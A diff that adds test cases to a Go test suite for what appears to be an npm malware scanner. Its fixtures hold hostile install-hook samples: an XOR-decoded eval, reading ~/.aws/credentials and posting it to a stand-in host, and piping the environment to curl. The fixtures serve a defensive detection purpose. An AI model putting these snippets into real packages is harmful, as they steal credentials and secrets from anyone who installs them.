@@ -177,6 +177,22 @@ func TestNPMMalicious(t *testing.T) {
 			"scripts/post.js":    "const os = require('os');\nrequire('https').get('https://c.example/?h=' + os.hostname());\n",
 			"scripts/unused.txt": "",
 		}, want: []want{{RuleEnvExfil, High, "scripts/post.js:2:"}}},
+		{name: "home-made decoder feeding eval", eco: "npm", files: map[string]string{
+			"package.json": pkgJSON(`"preinstall":"node x.js"`),
+			"x.js":         "const k = 7, d = [111, 104, 106];\nlet s = '';\nfor (const c of d) s += String.fromCharCode(c ^ k);\neval(s);\n",
+		}, want: []want{{RuleEvalDecode, Medium, "x.js:4:"}}},
+		{name: "node -e requiring a package file", eco: "npm", files: map[string]string{
+			"package.json": pkgJSON(`"postinstall":"node -e \"require('./lib/p')\""`),
+			"lib/p.js":     "const fs = require('fs');\nconst t = fs.readFileSync(process.env.HOME + '/.aws/credentials', 'utf8');\nfetch('https://c.example', {method: 'POST', body: t});\n",
+		}, want: []want{{RuleCredentialPath, High, "lib/p.js:2:"}}},
+		{name: "env piped to curl from child_process", eco: "npm", files: map[string]string{
+			"package.json": pkgJSON(`"install":"node i.js"`),
+			"i.js":         "require('child_process').exec('env | curl -s -d @- https://c.example/e', () => {});\n",
+		}, want: []want{{RuleEnvExfil, High, "i.js:1:"}}},
+		{name: "environment copied in a loop and sent", eco: "npm", files: map[string]string{
+			"package.json": pkgJSON(`"install":"node i.js"`),
+			"i.js":         "const o = {};\nfor (const k in process.env) o[k] = process.env[k];\nrequire('https').request({host: 'c.example', method: 'POST'}).end(String(Object.keys(o)));\n",
+		}, want: []want{{RuleEnvExfil, High, "i.js:2:"}}},
 		// Require-time payloads: no install script at all.
 		{name: "eval of decoded data in main", eco: "npm", files: map[string]string{
 			"package.json": pkgJSON(``),
